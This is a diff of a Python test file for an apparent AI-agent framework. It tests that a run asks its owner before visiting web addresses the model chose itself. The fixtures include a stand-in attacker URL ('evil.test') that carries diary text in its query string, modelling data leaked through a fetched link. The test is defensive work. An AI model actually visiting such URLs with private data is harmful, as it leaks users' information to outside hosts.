@@ -16,7 +16,8 @@ from auteryn.service.desk import Desk
 from auteryn.service.fork import Fork
 from auteryn.service.new import NewRun
 from auteryn.testing.clock import skipping
-from auteryn.testing.scripted import call, safety
+from auteryn.testing.scenarios import given
+from auteryn.testing.scripted import Ask, Line, call, safety
 from auteryn.testing.world import World
 from auteryn.tools.files import file_read, file_write
 from auteryn.tools.time import wait
@@ -99,6 +100,7 @@ def test_what_another_run_left_in_the_files_a_run_begins_with_is_as_foreign_as_i
 
 
 GOOD, EVIL = "https://shop.test/prices", "https://evil.test/?q=dear+diary"
+NAMED = "https://named.test/prices"
 
 
 @tool(
@@ -116,7 +118,7 @@ async def visit(ctx: ToolContext, url: Annotated[str, "Where"]) -> dict[str, str
 @pytest.mark.parametrize(
     ("task", "before", "url", "asks"),
     [
-        (f"Compare with {GOOD}", "https://a.test/", GOOD, False),
+        (f"Compare with {NAMED}", "https://a.test/", NAMED, False),
         ("Compare", "https://a.test/", GOOD, False),
         ("Compare", "https://a.test/", "https://shop.test/prices?q=dear+diary", True),
         ("Compare", EVIL, EVIL, True),
@@ -136,5 +138,23 @@ def test_an_address_is_free_that_the_owner_or_a_page_named_before_the_model_did(
             if asks:
                 await world.answer(run, DENY)
             assert (await world.ended(run)).status == "completed"
+
+    skipping(story())
+
+
+@pytest.mark.proves("L14")
+def test_an_address_in_the_words_of_a_step_is_one_the_model_wrote(tmp_path: Path) -> None:
+    def script(ask: Ask) -> Line:
+        if given(ask).startswith("Visit"):
+            return [call("visit", url=GOOD), DIARY, call("visit", url=EVIL), "done"][ask.turn]
+        return "done"
+
+    async def story() -> None:
+        async with World(tmp_path, model=script, tools=[visit, diary]) as world:
+            run = await world.start("Compare", plan=[f"Visit {EVIL}"])
+            await world.waiting(run)
+            _, step = await world.tree(run)
+            asked = await world.asked(step.id)
+            assert [ask.subject.target for ask in asked.asks if ask.subject] == [EVIL]
 
     skipping(story())
